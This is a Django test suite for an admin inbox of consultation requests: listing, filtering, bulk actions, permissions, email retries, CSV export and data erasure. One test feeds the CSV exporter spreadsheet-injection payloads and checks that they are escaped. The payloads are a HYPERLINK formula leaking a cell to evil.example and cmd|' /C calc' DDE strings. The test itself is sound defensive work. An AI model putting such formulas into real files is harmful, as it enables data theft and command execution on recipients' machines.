"""The consultation inbox in the admin, as the coaches who work it see it."""

import codecs
import csv
import io
from datetime import timedelta
from html.parser import HTMLParser

from django import forms
from django.contrib.auth.models import Permission, User
from django.core import mail
from django.core.mail.backends.locmem import EmailBackend as LocmemBackend
from django.core.management import call_command
from django.test import TestCase, override_settings
from django.urls import reverse
from django.utils import timezone

from exercises.articles.models import Comparison
from exercises.leads import consent, services
from exercises.leads.models import (
    ConsultationGoal,
    ConsultationRequest,
    ContactMethod,
    Notification,
    NotificationKind,
    NotificationStatus,
    RequestStatus,
)

CHANGELIST = reverse("admin:exercises_consultationrequest_changelist")
EXPORT = reverse("admin:exercises_consultationrequest_export")
COMPARISON_PATH = "/compare/leg-press-vs-hip-thrust/"


class RefuseStaffAlertsBackend(LocmemBackend):
    """The mail server is down for the coaches' address; the visitor's reply still goes out."""

    def send_messages(self, messages):
        if any("coaches@example.com" in message.to for message in messages):
            raise ConnectionRefusedError(111, "Connection refused")
        return super().send_messages(messages)


def change_url(request):
    return reverse("admin:exercises_consultationrequest_change", args=[request.pk])


def delete_url(request):
    return reverse("admin:exercises_consultationrequest_delete", args=[request.pk])


def new_lead(
    *,
    name,
    email,
    goal=ConsultationGoal.GLUTES,
    phone="",
    preferred_contact=ContactMethod.EMAIL,
    message="",
    source_path="/consultation/",
    age=timedelta(hours=1),
    status=RequestStatus.NEW,
    staff_notes="",
):
    """A request stored the way the public form stores it, then aged and worked by staff."""
    request = services.create_consultation_request(
        name=name,
        email=email,
        phone=phone,
        goal=goal,
        preferred_contact=preferred_contact,
        best_time="any",
        message=message,
        consent_version=consent.CURRENT_VERSION,
        calls_texts_consent=preferred_contact != ContactMethod.EMAIL,
        source_path=source_path,
        ip_address="203.0.113.7",
        user_agent="Mozilla/5.0 (Test)",
    )
    ConsultationRequest.objects.filter(pk=request.pk).update(
        created_at=timezone.now() - age, status=status, staff_notes=staff_notes
    )
    request.refresh_from_db()
    return request


class _Rows(HTMLParser):
    """Table rows as {css class of the cell: its text}, for cells classed ``field-<name>``."""

    def __init__(self, table_id=None):
        super().__init__()
        self.table_id = table_id
        self.inside = table_id is None
        self.rows = []
        self.cell = None
        self.unchosen_option = False  # a status changed in place lists every choice; only the chosen one counts

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "option":
            self.unchosen_option = "selected" not in attrs
        if tag == "table" and attrs.get("id") == self.table_id:
            self.inside = True
        if not self.inside:
            return
        if tag == "tr":
            self.rows.append({})
        elif tag in ("td", "th") and self.rows:
            field = next((c for c in (attrs.get("class") or "").split() if c.startswith("field-")), None)
            self.cell = field.removeprefix("field-") if field else None
            if self.cell:
                self.rows[-1][self.cell] = ""

    def handle_endtag(self, tag):
        if tag == "option":
            self.unchosen_option = False
        if tag in ("td", "th"):
            self.cell = None
        elif tag == "table" and self.table_id:
            self.inside = False

    def handle_data(self, data):
        if self.inside and self.cell and self.rows and not self.unchosen_option:
            self.rows[-1][self.cell] += data


def table_rows(response, table_id=None):
    parser = _Rows(table_id)
    parser.feed(response.content.decode())
    return [{key: " ".join(text.split()) for key, text in row.items()} for row in parser.rows if row]


def listed_names(response):
    return [row["name"] for row in table_rows(response, "result_list")]


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="consultation-requests-')
    assert response.content.startswith(codecs.BOM_UTF8), "without a BOM, Excel garbles accented names"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header, *records = rows
    return [dict(zip(header, record, strict=True)) for record in records]


def change_form_data(response, **changes):
    """What the browser would post back from a change page, with ``changes`` typed in."""
    data = {}

    def add(form):
        for name, field in form.fields.items():
            value = form[name].value()
            if isinstance(field, forms.BooleanField):
                if value:
                    data[form.add_prefix(name)] = "on"
            else:
                data[form.add_prefix(name)] = "" if value is None else value

    add(response.context["adminform"].form)
    for inline in response.context["inline_admin_formsets"]:
        formset = inline.formset
        management = formset.management_form
        for name in management.fields:
            data[management.add_prefix(name)] = management[name].value()
        for form in formset.forms:
            add(form)
    data.update(changes)
    return data


class InboxTestCase(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("load_initial_data", stdout=io.StringIO())
        cls.comparison = Comparison.objects.get(slug="leg-press-vs-hip-thrust")
        cls.boss = User.objects.create_superuser("boss", "boss@example.com", "pw")
        cls.coach = User.objects.create_user("coach", "coach@example.com", "pw", is_staff=True)
        cls.coach.user_permissions.set(
            Permission.objects.filter(content_type__app_label="exercises").exclude(codename__startswith="delete_")
        )
        cls.olivia = new_lead(
            name="Olivia Old",
            email="olivia@example.com",
            goal=ConsultationGoal.QUADS,
            age=timedelta(days=40, hours=1),
            status=RequestStatus.LOST,
        )
        cls.alice = new_lead(
            name="Alice Glute",
            email="alice@example.com",
            phone="512-555-0134",
            preferred_contact=ContactMethod.PHONE,
            source_path=COMPARISON_PATH,
            age=timedelta(days=4, hours=1),
        )
        cls.bob = new_lead(
            name="Bob Quad",
            email="bob@example.org",
            goal=ConsultationGoal.QUADS,
            age=timedelta(days=2, hours=1),
            status=RequestStatus.CONTACTED,
        )
        cls.carol = new_lead(
            name="Carol Newest",
            email="carol@example.net",
            goal=ConsultationGoal.ATHLETIC,
            source_path=COMPARISON_PATH,
        )

    def setUp(self):
        self.client.force_login(self.coach)

    def act(self, action, *requests, **extra):
        return self.client.post(
            CHANGELIST, {"action": action, "_selected_action": [r.pk for r in requests], **extra}, follow=True
        )


class ChangelistTests(InboxTestCase):
    def test_lists_requests_newest_first_with_status_goal_source_age_and_emails(self):
        response = self.client.get(CHANGELIST)

        self.assertEqual(response.status_code, 200)
        rows = {row["name"]: row for row in table_rows(response, "result_list")}
        self.assertEqual(listed_names(response), ["Carol Newest", "Bob Quad", "Alice Glute", "Olivia Old"])
        self.assertEqual(rows["Bob Quad"]["status"], "Contacted")
        self.assertEqual(rows["Olivia Old"]["status"], "Lost")
        self.assertEqual(rows["Alice Glute"]["goal"], "Glutes")
        self.assertEqual(rows["Bob Quad"]["goal"], "Quads / leg strength")
        self.assertEqual(rows["Alice Glute"]["source"], "Leg Press vs Hip Thrust")
        self.assertEqual(rows["Bob Quad"]["source"], "/consultation/")
        self.assertEqual(rows["Alice Glute"]["age"], "4 days")
        self.assertEqual(rows["Carol Newest"]["age"], "1 hour")
        self.assertEqual(rows["Carol Newest"]["notification_state"], "staff: pending; reply: pending")

    def test_filters_by_status(self):
        response = self.client.get(CHANGELIST, {"status__exact": "new"})
        self.assertEqual(listed_names(response), ["Carol Newest", "Alice Glute"])

        response = self.client.get(CHANGELIST, {"status__exact": "contacted"})
        self.assertEqual(listed_names(response), ["Bob Quad"])

    def test_filters_by_goal(self):
        response = self.client.get(CHANGELIST, {"goal__exact": "quads"})
        self.assertEqual(listed_names(response), ["Bob Quad", "Olivia Old"])

    def test_filters_by_source_comparison(self):
        response = self.client.get(CHANGELIST, {"source_comparison__id__exact": self.comparison.pk})
        self.assertEqual(listed_names(response), ["Carol Newest", "Alice Glute"])

    def test_filters_by_date(self):
        # The "Past 7 days" link in the sidebar, followed as a coach would click it.
        changelist = self.client.get(CHANGELIST).context["cl"]
        created = next(spec for spec in changelist.filter_specs if spec.title == "created at")
        past_week = next(choice for choice in created.choices(changelist) if choice["display"] == "Past 7 days")
        response = self.client.get(CHANGELIST + past_week["query_string"])
        self.assertEqual(listed_names(response), ["Carol Newest", "Bob Quad", "Alice Glute"])

        # The date drill-down above the list.
        day = timezone.localtime(self.bob.created_at)
        response = self.client.get(
            CHANGELIST, {"created_at__year": day.year, "created_at__month": day.month, "created_at__day": day.day}
        )
        self.assertEqual(listed_names(response), ["Bob Quad"])

    def test_search_by_name_email_and_phone(self):
        for query, expected in [
            ("alice", ["Alice Glute"]),
            ("Bob Quad", ["Bob Quad"]),
            ("carol@example.net", ["Carol Newest"]),
            ("example.org", ["Bob Quad"]),
            ("512-555-0134", ["Alice Glute"]),
            ("555-0134", ["Alice Glute"]),
            ("nobody-here", []),
        ]:
            with self.subTest(query=query):
                self.assertEqual(listed_names(self.client.get(CHANGELIST, {"q": query})), expected)


class BulkActionTests(InboxTestCase):
    def test_bulk_status_changes(self):
        for status in ["contacted", "booked", "won", "lost", "spam"]:
            with self.subTest(status=status):
                response = self.act(f"mark_{status}", self.alice, self.carol)

                self.assertContains(response, f"2 request(s) marked {status}.")
                self.alice.refresh_from_db()
                self.carol.refresh_from_db()
                self.bob.refresh_from_db()
                self.assertEqual((self.alice.status, self.carol.status), (status, status))
                self.assertEqual(self.bob.status, RequestStatus.CONTACTED, "an unselected request changed")
                rows = {row["name"]: row["status"] for row in table_rows(response, "result_list")}
                self.assertEqual(rows["Alice Glute"], RequestStatus(status).label)

    def test_archive_keeps_the_request_and_the_archived_filter_finds_it(self):
        response = self.act("archive", self.bob)

        self.assertContains(response, "1 request(s) archived.")
        self.bob.refresh_from_db()
        self.assertTrue(self.bob.archived)
        self.assertEqual(listed_names(self.client.get(CHANGELIST, {"archived__exact": "1"})), ["Bob Quad"])
        self.assertNotIn("Bob Quad", listed_names(self.client.get(CHANGELIST, {"archived__exact": "0"})))


class DeletePermissionTests(InboxTestCase):
    def action_choices(self):
        response = self.client.get(CHANGELIST)
        return [value for value, _label in response.context["action_form"].fields["action"].choices]

    def test_staff_cannot_delete(self):
        self.assertIn("archive", self.action_choices())
        self.assertIn("mark_lost", self.action_choices())
        self.assertNotIn("delete_selected", self.action_choices())
        self.assertEqual(self.client.get(delete_url(self.bob)).status_code, 403)
        self.assertEqual(self.client.post(delete_url(self.bob), {"post": "yes"}).status_code, 403)
        self.act("delete_selected", self.bob, post="yes")
        self.assertTrue(ConsultationRequest.objects.filter(pk=self.bob.pk).exists())
        self.assertNotContains(self.client.get(change_url(self.bob)), delete_url(self.bob))

    def test_staff_cannot_delete_even_with_the_delete_permission(self):
        self.coach.user_permissions.add(Permission.objects.get(codename="delete_consultationrequest"))

        self.assertNotIn("delete_selected", self.action_choices())
        self.assertEqual(self.client.post(delete_url(self.bob), {"post": "yes"}).status_code, 403)
        self.assertTrue(ConsultationRequest.objects.filter(pk=self.bob.pk).exists())

    def test_superuser_can_delete(self):
        self.client.force_login(self.boss)
        self.assertIn("delete_selected", self.action_choices())
        self.assertEqual(self.client.get(delete_url(self.bob)).status_code, 200)

        response = self.client.post(delete_url(self.bob), {"post": "yes"})

        self.assertRedirects(response, CHANGELIST)
        self.assertFalse(ConsultationRequest.objects.filter(pk=self.bob.pk).exists())
        self.assertFalse(Notification.objects.filter(request_id=self.bob.pk).exists())

    def test_superuser_can_bulk_delete(self):
        self.client.force_login(self.boss)
        self.act("delete_selected", self.bob, self.olivia, post="yes")
        self.assertEqual(
            set(ConsultationRequest.objects.values_list("name", flat=True)), {"Alice Glute", "Carol Newest"}
        )


class ChangeFormTests(InboxTestCase):
    def test_consent_fields_are_shown_but_read_only(self):
        response = self.client.get(change_url(self.alice))

        form_fields = response.context["adminform"].form.fields
        for name in ("consent", "consent_text", "consent_version", "consented_at", "calls_texts_consent"):
            self.assertNotIn(name, form_fields, f"{name} is editable")
        self.assertContains(response, consent.CONSENT_TEXT[consent.CURRENT_VERSION])
        self.assertContains(response, consent.CALLS_TEXTS_CONSENT_TEXT[consent.CURRENT_VERSION])
        self.assertContains(response, consent.CURRENT_VERSION)

    def test_posting_changed_consent_changes_nothing(self):
        page = self.client.get(change_url(self.alice))
        response = self.client.post(
            change_url(self.alice),
            change_form_data(
                page,
                consent_text="I agree to everything, forever.",
                consent_version="forged",
                calls_texts_consent_text="",
                source_path="/somewhere-else/",
                ip_address="198.51.100.1",
            ),
        )

        self.assertRedirects(response, CHANGELIST)
        stored = ConsultationRequest.objects.get(pk=self.alice.pk)
        self.assertEqual(stored.consent_text, consent.CONSENT_TEXT[consent.CURRENT_VERSION])
        self.assertEqual(stored.consent_version, consent.CURRENT_VERSION)
        self.assertEqual(stored.calls_texts_consent_text, consent.CALLS_TEXTS_CONSENT_TEXT[consent.CURRENT_VERSION])
        self.assertEqual(stored.consented_at, self.alice.consented_at)
        self.assertEqual((stored.source_path, stored.ip_address), (COMPARISON_PATH, "203.0.113.7"))

    def test_staff_notes_and_status_save(self):
        page = self.client.get(change_url(self.carol))
        notes = "Called Tue, left a voicemail.\nTry again Thursday morning."

        response = self.client.post(change_url(self.carol), change_form_data(page, staff_notes=notes, status="booked"))

        self.assertRedirects(response, CHANGELIST)
        self.carol.refresh_from_db()
        self.assertEqual(self.carol.staff_notes, notes)
        self.assertEqual(self.carol.status, RequestStatus.BOOKED)
        self.assertContains(self.client.get(change_url(self.carol)), "Try again Thursday morning.")

    def test_nobody_adds_requests_by_hand(self):
        self.client.force_login(self.boss)
        self.assertEqual(self.client.get(reverse("admin:exercises_consultationrequest_add")).status_code, 403)


class NotificationStateTests(InboxTestCase):
    @override_settings(EMAIL_BACKEND="tests.test_leads_inbox.RefuseStaffAlertsBackend")
    def failing_lead(self):
        with self.captureOnCommitCallbacks(execute=True):
            return new_lead(name="Dana Down", email="dana@example.com")

    def test_change_page_shows_a_failing_email_with_its_attempts_and_last_error(self):
        dana = self.failing_lead()
        self.assertEqual([m.to for m in mail.outbox], [["dana@example.com"]], "only the auto-reply went out")

        response = self.client.get(change_url(dana))

        notifications = {row["kind"]: row for row in table_rows(response) if "kind" in row}
        staff = notifications["Staff alert"]
        reply = notifications["Auto-reply to visitor"]
        self.assertEqual(staff["status"], "Failing")
        self.assertEqual(staff["attempts"], "1")
        self.assertIn("ConnectionRefusedError", staff["last_error"])
        self.assertIn("Connection refused", staff["last_error"])
        self.assertEqual(reply["status"], "Sent")
        self.assertEqual(reply["attempts"], "1")

        listed = {row["name"]: row for row in table_rows(self.client.get(CHANGELIST), "result_list")}
        self.assertIn("staff: failing ×1: ConnectionRefusedError", listed["Dana Down"]["notification_state"])
        self.assertIn("reply: sent", listed["Dana Down"]["notification_state"])

    def test_resend_sets_emails_back_to_pending_and_sends_them_again(self):
        dana = self.failing_lead()
        mail.outbox.clear()

        # The mail server is back; a coach presses "resend".
        with self.captureOnCommitCallbacks() as queued:
            response = self.act("resend_emails", dana)

        self.assertContains(response, "2 email(s) queued to send again.")
        self.assertEqual(
            set(dana.notifications.values_list("status", flat=True)), {NotificationStatus.PENDING}, "not reset"
        )

        for callback in queued:
            callback()

        self.assertEqual(sorted(m.to[0] for m in mail.outbox), ["coaches@example.com", "dana@example.com"])
        staff = dana.notifications.get(kind=NotificationKind.STAFF)
        self.assertEqual(staff.status, NotificationStatus.SENT)
        self.assertEqual(staff.attempts, 2)
        self.assertEqual(staff.last_error, "")
        rows = {row["kind"]: row["status"] for row in table_rows(self.client.get(change_url(dana))) if "kind" in row}
        self.assertEqual(rows, {"Staff alert": "Sent", "Auto-reply to visitor": "Sent"})

    def test_resend_of_several_requests_sends_each_one_again(self):
        with self.captureOnCommitCallbacks(execute=True):
            self.act("resend_emails", self.alice, self.bob)

        self.assertEqual(len(mail.outbox), 4)
        self.assertEqual(
            sorted(m.to[0] for m in mail.outbox),
            ["alice@example.com", "bob@example.org", "coaches@example.com", "coaches@example.com"],
        )
        self.assertEqual(
            {m.subject for m in mail.outbox if m.to == ["coaches@example.com"]},
            {"New consultation request: Alice Glute", "New consultation request: Bob Quad"},
        )


class CsvExportTests(InboxTestCase):
    def test_export_action_exports_the_selected_requests(self):
        response = self.client.post(
            CHANGELIST, {"action": "export_csv", "_selected_action": [self.alice.pk, self.olivia.pk]}
        )

        self.assertEqual(response.status_code, 200)
        records = read_csv(response)
        self.assertEqual([r["Name"] for r in records], ["Alice Glute", "Olivia Old"])
        alice = records[0]
        self.assertEqual(alice["Email"], "alice@example.com")
        self.assertEqual(alice["Phone"], "512-555-0134")
        self.assertEqual(alice["Status"], "New")
        self.assertEqual(alice["Main goal"], "Glutes")
        self.assertEqual(alice["Preferred contact"], "Phone call")
        self.assertEqual(alice["Source page"], COMPARISON_PATH)
        self.assertEqual(alice["Source comparison"], "Leg Press vs Hip Thrust")
        self.assertEqual(alice["Calls/texts consent"], "yes")
        self.assertEqual(alice["Consent version"], consent.CURRENT_VERSION)
        self.assertEqual(alice["Received"], timezone.localtime(self.alice.created_at).strftime("%Y-%m-%d %H:%M"))

    def test_export_url_exports_only_the_filtered_requests(self):
        response = self.client.get(EXPORT + "?status__exact=new")
        self.assertEqual([r["Name"] for r in read_csv(response)], ["Carol Newest", "Alice Glute"])

        response = self.client.get(EXPORT, {"goal__exact": "quads", "q": "bob"})
        self.assertEqual([r["Name"] for r in read_csv(response)], ["Bob Quad"])

        response = self.client.get(EXPORT)
        self.assertEqual(len(read_csv(response)), 4)

    def test_export_link_on_a_filtered_list_carries_the_filter(self):
        response = self.client.get(CHANGELIST, {"goal__exact": "quads"})
        link = f"{EXPORT}?goal__exact=quads"
        self.assertContains(response, f'href="{link}"')

        self.assertEqual([r["Name"] for r in read_csv(self.client.get(link))], ["Bob Quad", "Olivia Old"])

    def test_export_with_a_stale_filter_goes_back_to_the_list_instead_of_failing(self):
        response = self.client.get(EXPORT, {"created_at__gte": "last tuesday"})
        self.assertRedirects(response, CHANGELIST + "?e=1")

    def test_export_needs_a_staff_login(self):
        self.client.logout()
        response = self.client.get(EXPORT)
        self.assertEqual(response.status_code, 302)
        self.assertIn(reverse("admin:login"), response["Location"])

        nosy = User.objects.create_user("nosy", "nosy@example.com", "pw", is_staff=True)
        self.client.force_login(nosy)
        self.assertEqual(self.client.get(EXPORT).status_code, 403)

    def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(self):
        hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
        attacks = {
            "Eve Equals": {"name": hyperlink},
            "Pat Plus": {"message": "+1 555 0100, call me", "phone": "+1 512 555 0199"},
            "Mia Minus": {"message": "-2+3+cmd|' /C calc'!A0"},
            "Al At": {"staff_notes": "@SUM(1+1)*cmd|' /C calc'!A0"},
            "Tab Tom": {"message": "\t=1+1"},
            "Cr Cara": {"staff_notes": "\r=1+1"},
        }
        new_lead(name="Zoë Núñez - coach's pick", email="zoe@example.com")
        for key, fields in attacks.items():
            lead = new_lead(name=key, email=f"{key.split()[0].lower()}@example.com", source_path="")
            ConsultationRequest.objects.filter(pk=lead.pk).update(**fields)
        eve = ConsultationRequest.objects.get(name=hyperlink)

        exported = {r["Email"]: r for r in read_csv(self.client.get(EXPORT, {"q": "example.com"}))}

        self.assertEqual(exported["eve@example.com"]["Name"], "'" + hyperlink)
        self.assertEqual(exported["pat@example.com"]["Message"], "'+1 555 0100, call me")
        self.assertEqual(exported["pat@example.com"]["Phone"], "'+1 512 555 0199")
        self.assertEqual(exported["mia@example.com"]["Message"], "'-2+3+cmd|' /C calc'!A0")
        self.assertEqual(exported["al@example.com"]["Staff notes"], "'@SUM(1+1)*cmd|' /C calc'!A0")
        self.assertEqual(exported["tab@example.com"]["Message"], "'\t=1+1")
        self.assertEqual(exported["cr@example.com"]["Staff notes"], "'\r=1+1")
        for record in exported.values():
            for column, cell in record.items():
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{column}: {cell!r}")
        # Plain cells are left as they are, accents and all.
        self.assertEqual(exported["zoe@example.com"]["Name"], "Zoë Núñez - coach's pick")
        self.assertEqual(exported["alice@example.com"]["Name"], "Alice Glute")
        self.assertEqual(exported["pat@example.com"]["Name"], "Pat Plus")

        # The selected-rows action escapes the same way.
        selected = read_csv(self.client.post(CHANGELIST, {"action": "export_csv", "_selected_action": [eve.pk]}))
        self.assertEqual([r["Name"] for r in selected], ["'" + hyperlink])


# --- Emails that can never be sent, erasure and retention, auto-reply limits ------------------------------

import smtplib  # noqa: E402

import pytest  # noqa: E402
from django.contrib.admin.models import LogEntry  # noqa: E402

from exercises.leads import privacy  # noqa: E402
from exercises.leads.delivery import Delivery, deliver_notification  # noqa: E402
from exercises.leads.tasks import erase_expired_requests, sweep_notifications  # noqa: E402


class RefuseVisitorsBackend(LocmemBackend):
    """A mail server that refuses the visitor's address for good (550), as for a typo'd domain."""

    def send_messages(self, messages):
        for message in messages:
            if message.to[0].endswith("@exmaple.con"):
                raise smtplib.SMTPRecipientsRefused({message.to[0]: (550, b"5.1.1 No such user")})
        return super().send_messages(messages)


@pytest.mark.django_db
@override_settings(EMAIL_BACKEND="tests.test_leads_inbox.RefuseVisitorsBackend")
def test_an_email_that_can_never_be_sent_stops_and_staff_are_told_once(
    admin_client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        typo = new_lead(name="Tia Typo", email="tia@exmaple.con")
    reply = typo.notifications.get(kind=NotificationKind.AUTO_REPLY)

    assert reply.status == NotificationStatus.FAILED
    assert "550" in reply.last_error
    assert deliver_notification(reply.pk) is Delivery.SKIPPED  # never tried again
    assert sweep_notifications.call_local() == 0
    home = admin_client.get("/admin/").content.decode()
    assert "Emails that could not be sent" in home and "Tia Typo" in home
    assert (
        "cannot be sent: SMTPRecipientsRefused"
        in admin_client.get(reverse("admin:exercises_consultationrequest_changelist")).content.decode()
    )

    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        new_lead(name="Next Visitor", email="next@example.com")
    alert = next(message for message in mail.outbox if message.to == ["coaches@example.com"])
    assert "could not be sent and will not be tried again" in alert.body
    assert "Tia Typo" in alert.body and "550" in alert.body

    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        new_lead(name="Third Visitor", email="third@example.com")
    alert = next(message for message in mail.outbox if message.to == ["coaches@example.com"])
    assert "Tia Typo" not in alert.body  # told once
    assert "Emails that could not be sent" not in admin_client.get("/admin/").content.decode()


@pytest.mark.django_db
def test_staff_erase_a_visitors_personal_data_after_confirming(admin_client, admin_user):
    lead = new_lead(name="Ana Ruiz", email="ana@example.com", phone="512-555-0134", message="My knee.")
    other = new_lead(name="Ben Cho", email="ben@example.com")
    changelist = reverse("admin:exercises_consultationrequest_changelist")
    action = {"action": "erase_personal_data", "_selected_action": [lead.pk]}

    confirm = admin_client.post(changelist, action)
    assert confirm.status_code == 200
    assert "It cannot be undone" in confirm.content.decode()
    lead.refresh_from_db()
    assert lead.name == "Ana Ruiz"  # nothing happens before the confirmation

    admin_client.post(changelist, {**action, "confirmed": "yes"})

    lead.refresh_from_db()
    assert (lead.name, lead.email, lead.phone, lead.message, lead.ip_address, lead.user_agent) == (
        "",
        "",
        "",
        "",
        None,
        "",
    )
    assert (lead.goal, lead.source_path, lead.status) == ("glutes", "/consultation/", RequestStatus.NEW)
    assert lead.erased_by == admin_user.get_username() and lead.erased_at is not None
    entry = LogEntry.objects.get(object_id=str(lead.pk))
    assert entry.user == admin_user and "Erased personal data" in entry.get_change_message()
    assert ConsultationRequest.objects.count() == 2  # the counts stay true
    other.refresh_from_db()
    assert other.name == "Ben Cho"
    assert admin_client.get(change_url(lead)).status_code == 200


@pytest.mark.django_db
def test_leads_older_than_the_retention_period_are_erased_by_the_daily_job(settings):
    settings.LEAD_RETENTION_DAYS = 730
    old = new_lead(name="Old Lead", email="old@example.com", age=timedelta(days=731))
    recent = new_lead(name="Recent Lead", email="recent@example.com", age=timedelta(days=700))

    assert erase_expired_requests.call_local() == 1

    old.refresh_from_db()
    recent.refresh_from_db()
    assert old.name == "" and old.erased_by == "retention: older than 730 days"
    assert recent.name == "Recent Lead"
    assert privacy.erase_expired_requests() == 0  # nothing twice


@pytest.mark.django_db
def test_one_address_gets_at_most_one_auto_reply_a_day_and_staff_hear_of_every_lead(
    django_capture_on_commit_callbacks,
):
    with django_capture_on_commit_callbacks(execute=True):
        first = new_lead(name="Visit evil.example now", email="target@example.com")
        second = new_lead(name="Again", email="Target@Example.com")

    replies = [message for message in mail.outbox if message.to != ["coaches@example.com"]]
    alerts = [message for message in mail.outbox if message.to == ["coaches@example.com"]]
    assert len(replies) == 1
    assert "evil.example" not in replies[0].body  # no text the visitor typed
    assert len(alerts) == 2
    assert "No auto-reply was sent" in alerts[1].body
    assert ConsultationRequest.objects.filter(pk__in=[first.pk, second.pk]).count() == 2
    assert Notification.objects.filter(request=second, kind=NotificationKind.AUTO_REPLY).count() == 0


# --- An inbox built for calling people back -------------------------------------------------------------


@pytest.mark.django_db
def test_the_inbox_hides_archived_leads_unless_asked(admin_client):
    new_lead(name="Open Lead", email="open@example.com")
    done = new_lead(name="Done Lead", email="done@example.com")
    ConsultationRequest.objects.filter(pk=done.pk).update(archived=True)

    assert listed_names(admin_client.get(CHANGELIST)) == ["Open Lead"]
    assert listed_names(admin_client.get(CHANGELIST, {"archived__exact": "1"})) == ["Done Lead"]
    assert set(listed_names(admin_client.get(CHANGELIST, {"archived__exact": "all"}))) == {"Open Lead", "Done Lead"}


@pytest.mark.django_db
def test_staff_tap_to_mail_or_call_from_the_list(admin_client):
    new_lead(name="Ana Ruiz", email="ana@example.com", phone="(512) 555-0134", preferred_contact=ContactMethod.PHONE)

    page = admin_client.get(CHANGELIST).content.decode()

    assert '<a href="mailto:ana@example.com">ana@example.com</a>' in page
    assert '<a href="tel:5125550134">(512) 555-0134</a>' in page


@pytest.mark.django_db
def test_staff_change_a_status_in_place_and_the_answer_time_is_kept(admin_client):
    lead = new_lead(name="Ana Ruiz", email="ana@example.com", age=timedelta(hours=2))
    formset = {
        "form-TOTAL_FORMS": "1",
        "form-INITIAL_FORMS": "1",
        "form-MIN_NUM_FORMS": "0",
        "form-MAX_NUM_FORMS": "1000",
        "form-0-id": str(lead.pk),
        "form-0-status": RequestStatus.CONTACTED,
        "_save": "Save",
    }

    response = admin_client.post(CHANGELIST, formset)

    assert response.status_code == 302
    lead.refresh_from_db()
    assert lead.status == RequestStatus.CONTACTED
    assert lead.first_contacted_at is not None
    assert "Answered in" in (page := admin_client.get(change_url(lead)).content.decode())
    assert "2\xa0hours" in page or "2 hours" in page
    home = admin_client.get("/admin/").content.decode()
    assert (
        "Median time to first contact</dt><dd>2\xa0hours" in home
        or "Median time to first contact</dt><dd>2 hours" in home
    )

    ConsultationRequest.objects.filter(pk=lead.pk).update(status=RequestStatus.NEW)
    admin_client.post(CHANGELIST, formset)  # contacted again: the first contact stays the first
    assert ConsultationRequest.objects.get(pk=lead.pk).first_contacted_at == lead.first_contacted_at


@pytest.mark.django_db
def test_what_the_visitor_wrote_cannot_be_overwritten(admin_client):
    lead = new_lead(name="Ana Ruiz", email="ana@example.com", message="My left knee.")
    form = {"status": RequestStatus.BOOKED, "staff_notes": "Called, booked Tuesday.", "name": "Someone Else"}
    form.update({"message": "Changed.", "email": "other@example.com"})
    form.update({"notifications-TOTAL_FORMS": "0", "notifications-INITIAL_FORMS": "0"})

    admin_client.post(change_url(lead), form)

    lead.refresh_from_db()
    assert (lead.name, lead.email, lead.message) == ("Ana Ruiz", "ana@example.com", "My left knee.")
    assert (lead.status, lead.staff_notes) == (RequestStatus.BOOKED, "Called, booked Tuesday.")


@pytest.mark.django_db
def test_the_admin_home_shows_who_to_call_back_oldest_first_and_unpublished_content(admin_client):
    from exercises.writing.models import Status
    from tests.conftest import make_comparison, make_exercise

    new_lead(name="Waited Long", email="long@example.com", age=timedelta(days=3))
    new_lead(name="Just Now", email="now@example.com", age=timedelta(minutes=5))
    draft = make_exercise("Glute Bridge", status=Status.DRAFT, published_at=None)
    soon = make_comparison(
        make_exercise("Squat"), make_exercise("Leg Press"), published_at=timezone.now() + timedelta(days=2)
    )

    page = admin_client.get("/admin/").content.decode()

    assert "Call back now" in page and "2 new requests, oldest first." in page
    assert page.index("Waited Long") < page.index("Just Now")  # the longest wait first
    assert page.count("over target</strong>") == 1  # 3 days is over the hour; 5 minutes is not
    assert f'Draft: <a href="/admin/exercises/exercise/{draft.pk}/change/">Glute Bridge</a>' in page
    assert "Scheduled for" in page and f"/admin/exercises/comparison/{soon.pk}/change/" in page


@pytest.mark.django_db
def test_the_admin_home_lists_live_articles_whose_review_is_overdue(admin_client):
    from exercises.writing.models import Status
    from tests.conftest import make_comparison, make_exercise

    today = timezone.localdate()
    overdue = make_comparison(
        make_exercise("Squat"), make_exercise("Leg Press"), next_review_due=today - timedelta(days=3)
    )
    make_exercise("Deadlift", next_review_due=today + timedelta(days=30))  # not due yet
    make_exercise("Glute Bridge", status=Status.DRAFT, published_at=None, next_review_due=today - timedelta(days=9))

    page = admin_client.get("/admin/").content.decode()

    assert f'<a href="/admin/exercises/comparison/{overdue.pk}/change/">{overdue.title}</a>' in page
    assert page.count("Review was due") == 1  # neither the one not yet due nor the draft
